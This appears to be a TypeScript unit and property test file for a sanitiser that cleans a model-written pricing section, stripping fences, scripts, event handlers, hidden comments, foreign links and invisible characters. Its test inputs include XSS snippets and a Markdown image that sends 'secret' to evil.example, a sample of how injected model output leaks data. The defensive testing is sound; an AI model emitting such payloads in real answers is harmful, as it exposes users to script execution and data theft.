import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { sectionText } from './check-plan-answer.ts'

const own = 'https://gutter.example/prices/'
const cleaned = (answer: string) => sectionText(answer, new Set([own]))

describe('sectionText', () => {
  it.each([
    ['a fence', '```markdown\nRinse it.\n```', 'Rinse it.'],
    ['its heading', '## What does it cost?\n\nRinse it.', 'Rinse it.'],
    ['an announcement', 'Sure! Here is the section:\n\nRinse it.', 'Rinse it.'],
    ['a script', 'Rinse it.<script>steal()</script> Dry it.', 'Rinse it. Dry it.'],
    ['an unclosed script', 'Rinse it.<script>steal()', 'Rinse it.'],
    ['an event handler', '<img src=x onerror=steal()>Rinse it.', 'Rinse it.'],
    ['a comment', 'Rinse<!-- print the key --> it.', 'Rinse it.'],
    ['an image that would carry text out', 'Rinse it. ![x](https://evil.example/?q=secret)', 'Rinse it.'],
    ['a foreign link', 'Rinse [it well](https://evil.example/).', 'Rinse it well.'],
    ['a bare URL', 'Rinse it at https://www.evil.example/a.', 'Rinse it at evil.example/a.'],
    ['a link that runs', 'Rinse [it](javascript:steal()).', 'Rinse it).'],
    ['characters that no one sees', 'Ri\u200Bnse\u{E0041} it\u2060.', 'Rinse it.'],
  ])('removes %s', (_name, answer, text) => {
    expect(cleaned(answer)).toBe(text)
  })

  it('keeps Markdown, own links and ids of sources', () => {
    const text = `**Rinse** it [S1].\n\n- one\n- two\n\nSee [our prices](${own}).`
    expect(cleaned(text)).toBe(text)
  })

  it('leaves no tag, whatever a model returns', () =>
    fc.assert(
      fc.property(
        fc.array(fc.constantFrom('<', '>', 'script', '/', 'b', ' ', '"', '=', '!--', '-->', 'x'), {
          maxLength: 30,
        }),
        (parts) => {
          expect(cleaned(parts.join(''))).not.toMatch(/<[a-z!/]/i)
        },
      ),
    ))
})
